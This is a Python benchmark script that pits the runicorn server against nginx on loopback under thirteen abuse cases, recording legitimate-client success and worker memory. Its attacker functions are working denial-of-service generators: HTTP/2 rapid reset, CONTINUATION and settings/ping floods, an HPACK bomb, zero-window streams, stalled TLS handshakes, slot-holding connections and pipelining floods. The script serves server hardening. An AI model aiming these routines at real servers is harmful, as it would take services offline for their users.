#!/usr/bin/env python3
"""Every abuse case of tests/it/abuse.rs, runicorn beside nginx in one run: one worker
each, default settings (runicorn's deadlines; nginx's own defaults, worker_connections
1000), a static directory served by both. For each case an attacker runs while a
legitimate client makes a fresh TLS connection and one HTTP/1.1 request every 50 ms (each
given 2 s); reports its successes and the worker's RSS before the attack, at its peak
during it, and 2 s after the attacker left.

    python3 benches/abuse.py [--target target/release] [--seconds 6] [--only CASE ...]

Loopback only; the server runs on core 0, attacker and client on core 1. Run it under
`flock /tmp/runicorn-load.lock`.
"""
import argparse
import os
import socket
import ssl
import sys
import tempfile
import threading
import time
from pathlib import Path

import hpack

sys.path.insert(0, str(Path(__file__).resolve().parent))
import run as harness  # noqa: E402
import abuse_slots  # noqa: E402
from abuse_slots import rss_kb, worker_pid  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(ty: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    n = len(payload)
    return bytes([n >> 16, (n >> 8) & 255, n & 255, ty, flags]) + stream.to_bytes(4, "big") + payload


def settings(**kv: int) -> bytes:
    ids = {"initial_window": 4}
    return frame(4, 0, 0, b"".join(ids[k].to_bytes(2, "big") + v.to_bytes(4, "big") for k, v in kv.items()))


def headers_block(enc: hpack.Encoder, method: str, path: str) -> bytes:
    return enc.encode([(":method", method), (":scheme", "https"), (":path", path), (":authority", "localhost")])


def client_ctx(alpn: list[str]) -> ssl.SSLContext:
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(alpn)
    return ctx


H2 = client_ctx(["h2"])
H1 = client_ctx(["http/1.1"])


def tls(port: int, ctx: ssl.SSLContext = H2, timeout: float = 2) -> ssl.SSLSocket:
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    return ctx.wrap_socket(s, server_hostname="localhost")


def drain(socks: list, stat: dict) -> list:
    """Reads whatever the server sent (not for zero-window cases); drops closed sockets."""
    alive = []
    for s in socks:
        try:
            s.setblocking(False)
            while True:
                d = s.recv(65536)
                if not d:
                    raise OSError
        except (ssl.SSLWantReadError, BlockingIOError):
            alive.append(s)
        except OSError:
            stat["closed"] += 1
            s.close()
    return alive


# ----- attackers: each runs until `stop` is set, counting in `stat` -----

def hold(port, stop, stat, n, greet, read=True):
    """n connections that each send `greet(sock)` once, then nothing; re-opened when closed."""
    socks = []
    while not stop.is_set():
        if read:
            socks = drain(socks, stat)
        while len(socks) < n and not stop.is_set():
            try:
                socks.append(greet(port))
                stat["opened"] += 1
            except OSError:
                break
        stat["held"] = len(socks)
        time.sleep(0.05)
    for s in socks:
        s.close()


def plain_idle(port):
    s = socket.create_connection(("127.0.0.1", port), timeout=1)
    return s


def tls_partial_hello(port):
    s = socket.create_connection(("127.0.0.1", port), timeout=1)
    s.sendall(b"\x16\x03\x01\x02\x00")  # a ClientHello record header, no body
    return s


def h2_idle(port):
    s = tls(port)
    s.sendall(PREFACE + settings())
    return s


def h2_header_stalled(port):
    s = tls(port)
    block = headers_block(hpack.Encoder(), "GET", "/small.txt")
    s.sendall(PREFACE + settings() + frame(1, 0x1, 1, block[: len(block) // 2]))  # no END_HEADERS
    return s


def h2_streams(path, method, window, end_stream):
    def greet(port):
        s = tls(port)
        enc = hpack.Encoder()
        out = PREFACE + (settings(initial_window=window) if window is not None else settings())
        for i in range(100):
            out += frame(1, 0x4 | (0x1 if end_stream else 0), 2 * i + 1, headers_block(enc, method, path))
        s.sendall(out)
        return s
    return greet


def burst(port, stop, stat, make):
    """One connection at a time writing `make(i)` frames as fast as it can; reconnects."""
    while not stop.is_set():
        try:
            s = tls(port)
            s.sendall(PREFACE + settings())
            stat["opened"] += 1
            i = 0
            while not stop.is_set():
                s.settimeout(2)
                s.sendall(make(i))
                i += 1
                # Read what the server answered (acknowledgements), without waiting.
                s.setblocking(False)
                try:
                    while True:
                        if s.recv(65536) == b"":
                            raise OSError
                except (ssl.SSLWantReadError, BlockingIOError):
                    pass
            s.close()
        except OSError:
            stat["closed"] += 1
            time.sleep(0.01)


def rapid_reset(i):
    if i == 0:
        rapid_reset.enc = hpack.Encoder()
    enc = rapid_reset.enc
    out = b""
    for k in range(10):
        sid = 2 * (i * 10 + k) + 1
        if sid >= 2 ** 31:
            raise OSError
        out += frame(1, 0x5, sid, headers_block(enc, "GET", "/small.txt")) + frame(3, 0, sid, (8).to_bytes(4, "big"))
    return out


def continuation_flood(i):
    if i == 0:
        return frame(1, 0x0, 1, headers_block(hpack.Encoder(), "GET", "/small.txt"))
    return frame(9, 0, 1, b"") * 100


def hpack_bomb(i):
    # One 4 KB header into the dynamic table, then 1-byte references to it.
    if i == 0:
        enc = hpack.Encoder()
        block = headers_block(enc, "GET", "/small.txt") + enc.encode([("x", "a" * 4000)])
        return frame(1, 0x0, 1, block)
    return frame(9, 0, 1, b"\xbe" * 1000)


def pipelining(port, stop, stat):
    while not stop.is_set():
        try:
            s = tls(port, H1)
            stat["opened"] += 1
            s.settimeout(0.5)
            req = b"GET /small.txt HTTP/1.1\r\nHost: x\r\n\r\n" * 100
            for _ in range(100):
                if stop.is_set():
                    break
                s.sendall(req)
            while not stop.is_set():
                s.sendall(req)
        except OSError:
            stat["closed"] += 1
            time.sleep(0.01)


CASES = {
    "slots-plain": (False, lambda p, st, s: hold(p, st, s, 1000, plain_idle)),
    "slots-tls": (True, lambda p, st, s: hold(p, st, s, 1000, plain_idle)),
    "stalled-tls-handshakes": (True, lambda p, st, s: hold(p, st, s, 500, tls_partial_hello)),
    "h2-idle": (True, lambda p, st, s: hold(p, st, s, 1000, h2_idle)),
    "h2-header-stalled": (True, lambda p, st, s: hold(p, st, s, 500, h2_header_stalled)),
    "h2-zero-window": (True, lambda p, st, s: hold(p, st, s, 50, h2_streams("/big.bin", "GET", 0, True), read=False)),
    "h2-stream-count": (True, lambda p, st, s: hold(p, st, s, 50, h2_streams("/small.txt", "POST", None, False))),
    "h2-rapid-reset": (True, lambda p, st, s: burst(p, st, s, rapid_reset)),
    "h2-settings-flood": (True, lambda p, st, s: burst(p, st, s, lambda i: frame(4, 0, 0) * 100)),
    "h2-ping-flood": (True, lambda p, st, s: burst(p, st, s, lambda i: frame(6, 0, 0, b"12345678") * 100)),
    "h2-continuation-flood": (True, lambda p, st, s: burst(p, st, s, continuation_flood)),
    "h2-hpack-bomb": (True, lambda p, st, s: burst(p, st, s, hpack_bomb)),
    "pipelining-flood": (True, lambda p, st, s: pipelining(p, st, s)),
}


def legit(port: int, tls_on: bool, seconds: float) -> tuple[int, int]:
    """benches/abuse_slots.py's legitimate client, on the static file, over TLS with ALPN
    http/1.1 where the case is a TLS one."""
    connect = (lambda p: tls(p, H1)) if tls_on else None
    return abuse_slots.legit(port, False, seconds, "/small.txt", connect)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--target", type=Path, default=harness.ROOT / "target" / "release")
    ap.add_argument("--seconds", type=float, default=6)
    ap.add_argument("--only", nargs="+", choices=list(CASES))
    a = ap.parse_args()
    server_cpu, load_cpu, pin = harness.pick_cpus()
    if load_cpu is not None:
        os.sched_setaffinity(0, {load_cpu})
    print(f"# {pin}; legitimate client for {a.seconds:.0f} s per case; RSS of the one worker")
    print("| case | server | legitimate ok / failed | attacker connections opened / ended | worker RSS before → peak → after (MB) |")
    print("|---|---|---:|---:|---|")
    with tempfile.TemporaryDirectory(prefix="runicorn-abuse-") as tmp:
        tmp = Path(tmp)
        static = tmp / "static"
        static.mkdir()
        (static / "small.txt").write_text("Hello, World!")
        (static / "big.bin").write_bytes(b"x" * (1 << 20))
        # nginx's worker runs as nobody.
        for path in (tmp, static):
            path.chmod(0o755)
        ctx = harness.Ctx(target=a.target.resolve(), tmp=tmp, server_cpu=server_cpu, load_cpu=load_cpu,
                          seconds=0, connections=0, handshakes=0)
        runicorn = str(a.target.resolve() / "runicorn")
        for case in a.only or list(CASES):
            tls_on, attack = CASES[case]
            for name in ("runicorn", "nginx"):
                port = harness.free_port()
                if name == "runicorn":
                    argv = [runicorn, "-w", "1", "-b", f"127.0.0.1:{port}", "--static-map", f"/={static}"]
                    if tls_on:
                        argv += harness.tls_args()
                else:
                    argv = harness.nginx(ctx, port, ssl_on=tls_on, static=True)
                    conf = Path(argv[-1])
                    conf.write_text(conf.read_text().replace("worker_connections 4096", "worker_connections 1000"))
                log = tmp / f"{name}-{case}.log"
                p = harness.spawn(argv, server_cpu, log)
                try:
                    harness.wait_ready(p, f"{'https' if tls_on else 'http'}://127.0.0.1:{port}/small.txt", log, 30)
                    w = worker_pid(p.pid)
                    before = rss_kb(w)
                    stop, stat = threading.Event(), {"opened": 0, "closed": 0, "held": 0}
                    t = threading.Thread(target=attack, args=(port, stop, stat), daemon=True)
                    t.start()
                    peak = [before]
                    sampling = threading.Event()

                    def sample():
                        while not sampling.is_set():
                            peak[0] = max(peak[0], rss_kb(w))
                            time.sleep(0.1)
                    st = threading.Thread(target=sample, daemon=True)
                    st.start()
                    time.sleep(1.5)  # let the attack build up
                    ok, failed = legit(port, tls_on, a.seconds)
                    stop.set()
                    t.join(10)
                    time.sleep(2)
                    sampling.set()
                    st.join()
                    after = rss_kb(w)
                    print(f"| {case} | {name} | {ok} / {failed} | {stat['opened']} / {stat['closed']} | "
                          f"{before / 1024:.1f} → {peak[0] / 1024:.1f} → {after / 1024:.1f} |", flush=True)
                finally:
                    harness.stop(p)
    return 0


if __name__ == "__main__":
    sys.exit(main())
